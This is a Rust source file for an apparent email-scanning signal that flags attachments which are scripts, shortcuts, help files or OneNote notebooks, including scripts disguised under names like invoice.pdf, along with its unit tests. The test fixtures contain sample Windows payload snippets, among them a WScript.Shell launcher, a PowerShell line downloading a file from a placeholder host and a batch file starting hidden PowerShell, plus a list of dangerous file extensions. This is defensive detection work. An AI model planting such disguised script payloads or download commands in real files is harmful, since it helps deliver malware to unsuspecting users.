//! An attachment is a script, a shortcut or another file that starts something.
//!
//! Why: one double click runs it, and most readers do not know that such files run at all. What the contents are counts under
//! another name too, for then the text has the reader rename it.
//!
//! Wrong when: programmers send each other source code, which is text in the message's view and counts little, also where it is
//! called text because filters hold back its true name; `.url` and `.one` files are also sent in good faith.
use crate::message::{Attachment, FileKind, is_application};
use crate::readings::Kind;
use crate::signals::file_name::{NameKind, extensions, is_source, kind_of, name_of};
use crate::signals::parts::{self, Part};
use crate::signals::strongest::strongest;
use crate::signals::{Direction, Examination, Finding, Group, Signal, Strength, Threat};

pub(in crate::signals) const SIGNAL: Signal = Signal {
    id: "attachments.script_or_shortcut",
    group: Group::Attachments,
    direction: Direction::Threat,
    threats: &[Threat::Malware],
    evidence: &["name"],
    since: "0.1.0",
    inspect,
};

/// How much of a page is searched for what makes it a program.
const PAGE: usize = 32 * 1024;

fn inspect(examination: &Examination<'_>) -> Option<Finding> {
    let (attachment, strength) = strongest(parts::parts(examination).filter_map(starter))?;
    Some(
        SIGNAL
            .found()
            .with("name", name_of(attachment))
            .at(strength),
    )
}

fn starter(part: Part<'_>) -> Option<(&Attachment<'_>, Strength)> {
    let (attachment, _) = part;
    let is_link = matches!(parts::kind(part), Some(Kind::Shortcut | Kind::Help));
    if attachment.sniffed == FileKind::Shortcut || attachment.sniffed == FileKind::Help {
        return Some((attachment, Strength::FULL));
    }
    let name = attachment.name.as_deref().unwrap_or_default();
    if kind_of(name) == Some(NameKind::Script) {
        return Some((attachment, by_name(name, attachment)));
    }
    // A shortcut under a name that tells nothing of it.
    if is_link {
        return Some((attachment, Strength::FULL));
    }
    let strength = by_contents(name, attachment)?;
    Some((attachment, strength))
}

/// How clearly what is called something else is a script by its contents.
fn by_contents(name: &str, attachment: &Attachment<'_>) -> Option<Strength> {
    let is_script = match attachment.sniffed {
        // Tools for other systems name their interpreter, and many of them have no ending.
        FileKind::Script => &*attachment.head(2) != b"#!",
        FileKind::Html => is_application(&attachment.head(PAGE)),
        FileKind::OneNote => true,
        _ => false,
    };
    if !is_script {
        return None;
    }
    match (kind_of(name), extensions(name).0.as_deref()) {
        (Some(NameKind::Text), Some("txt" | "csv" | "tsv")) => Some(Strength::WEAK),
        (Some(NameKind::Text | NameKind::Program), _) => None,
        (Some(_), _) => Some(Strength::FULL),
        // The ending of another language, or none of a file that its sender's program names.
        (None, Some(_)) => None,
        (None, None) => (!name.is_empty()).then_some(Strength::HALF),
    }
}

fn by_name(name: &str, attachment: &Attachment<'_>) -> Strength {
    // Shown as text by the sender's program: a patch, a piece of code to read.
    let is_read = attachment.inline || attachment.declared.starts_with("text/");
    match (is_source(name), is_read) {
        (true, true) => Strength::WEAK,
        (true, false) => Strength::HALF,
        (false, _) => Strength::FULL,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::signals::testing::{Mail, assert_fact, assert_fires, assert_silent};

    #[test]
    fn fires_on_scripts_and_shortcuts() {
        for name in [
            "Invoice.jse",
            "a.vbs",
            "a.WSF",
            "a.hta",
            "Scan.lnk",
            "a.scf",
            "a.chm",
            "a.reg",
            "a.settingcontent-ms",
        ] {
            let finding = assert_fires(
                &SIGNAL,
                Mail::any().attach(name, "application/octet-stream", b"\x00\x01\x02"),
            );
            assert_fact(&finding, "name", name);
            assert_eq!(finding.strength, Strength::FULL);
        }
    }

    #[test]
    fn fires_on_a_shortcut_under_another_name() {
        assert_fires(
            &SIGNAL,
            Mail::any().attach(
                "scan.pdf",
                "application/pdf",
                b"L\x00\x00\x00\x01\x14\x02\x00",
            ),
        );
    }

    /// One of each kind that runs on Windows.
    const SCRIPTS: [&[u8]; 6] = [
        b"var sh = new ActiveXObject('WScript.Shell');\r\nsh.Run('calc', 0);\r\n",
        b"Dim sh\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"calc\"\r\n",
        b"$c = New-Object Net.WebClient\n$c.DownloadFile('https://quibusdam.example/a', 'a')\n",
        b"@echo off\r\nstart /min powershell -w hidden\r\n",
        b"\xff\xfee\0v\0a\0l\0(\0a\0)\0;\0",
        b"<html><hta:application id=a><script language=VBScript>x</script></html>",
    ];

    #[test]
    fn fires_on_a_script_under_another_name() {
        for script in SCRIPTS {
            for (name, media) in [
                ("invoice.pdf", "application/pdf"),
                ("photo.jpg", "image/jpeg"),
                ("order.docx", "application/octet-stream"),
                ("archive.zip", "application/zip"),
            ] {
                let finding = assert_fires(&SIGNAL, Mail::any().attach(name, media, script));
                assert_fact(&finding, "name", name);
                assert_eq!(finding.strength, Strength::FULL);
            }
            let bare = Mail::any().attach("invoice", "application/octet-stream", script);
            assert_eq!(assert_fires(&SIGNAL, bare).strength, Strength::HALF);
        }
    }

    #[test]
    fn fires_weakly_on_a_script_called_text() {
        for script in SCRIPTS {
            let mail = Mail::any().attach("readme.txt", "text/plain", script);
            assert_eq!(assert_fires(&SIGNAL, mail).strength, Strength::WEAK);
        }
    }

    #[test]
    fn fires_on_a_help_file_and_on_a_notebook_under_another_name() {
        let notebook = b"\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D\xAE\xB1\x53\x78\xD0\x29\x96\xD3";
        for contents in [b"ITSF\x03\x00\x00\x00".as_slice(), notebook] {
            let mail = Mail::any().attach("plan.pdf", "application/pdf", contents);
            assert_eq!(assert_fires(&SIGNAL, mail).strength, Strength::FULL);
        }
    }

    #[test]
    fn silent_on_texts_that_speak_of_scripts_and_on_logs() {
        for (name, text) in [
            (
                "guide.txt",
                "Open PowerShell and type Invoke-WebRequest with the address.\nThen close it.\n",
            ),
            (
                "build.log",
                "@echo off\ncmd /c make\nstart powershell -NoProfile\n",
            ),
            (
                "trace.txt",
                "09:00:01 started cmd.exe /c build.bat\n09:00:02 eval(x) took 3 ms\n",
            ),
            (
                "notes.pdf",
                "The filter held back CreateObject(\"WScript.Shell\").\n",
            ),
            (
                "total.txt",
                "var total = 3;\nfunction add(a, b) {\n  return a + b;\n}\n",
            ),
        ] {
            let mail = Mail::any().attach(name, "application/octet-stream", text.as_bytes());
            assert_silent(&SIGNAL, mail);
        }
    }

    #[test]
    fn silent_on_source_code_under_its_own_name() {
        let code = b"const a = eval(read());\nfor (const b of a) {\n  run(b);\n}\n";
        for name in ["parse.ts", "main.py", "tool.rb", "a.vue", "app.c"] {
            let mail = Mail::any().attach(name, "application/octet-stream", code);
            assert_silent(&SIGNAL, mail);
        }
        let tool = b"#!/bin/sh\nset -e\nexec make\n";
        assert_silent(
            &SIGNAL,
            Mail::any().attach("configure", "application/octet-stream", tool),
        );
    }

    #[test]
    fn fires_less_on_what_is_also_source_code() {
        let sent = Mail::any().attach("invoice.js", "application/javascript", b"var a=1;");
        assert_eq!(assert_fires(&SIGNAL, sent).strength, Strength::HALF);
        let read = Mail::any().attach("build.bat", "text/plain", b"@echo off\r\n");
        assert_eq!(assert_fires(&SIGNAL, read).strength, Strength::WEAK);
    }

    #[test]
    fn silent_on_documents() {
        assert_silent(
            &SIGNAL,
            Mail::any().attach("plan.pdf", "application/pdf", b"%PDF-1.7"),
        );
        assert_silent(
            &SIGNAL,
            Mail::any().attach("notes.txt", "text/plain", b"run invoice.js"),
        );
        assert_silent(&SIGNAL, Mail::any());
    }

    #[test]
    fn silent_on_unix_tools_and_patches() {
        assert_silent(
            &SIGNAL,
            Mail::any().attach("fix.patch", "text/x-patch", b"--- a/x.js\n+++ b/x.js\n"),
        );
        assert_silent(
            &SIGNAL,
            Mail::any().attach("run.py", "text/x-python", b"print(1)\n"),
        );
    }
}
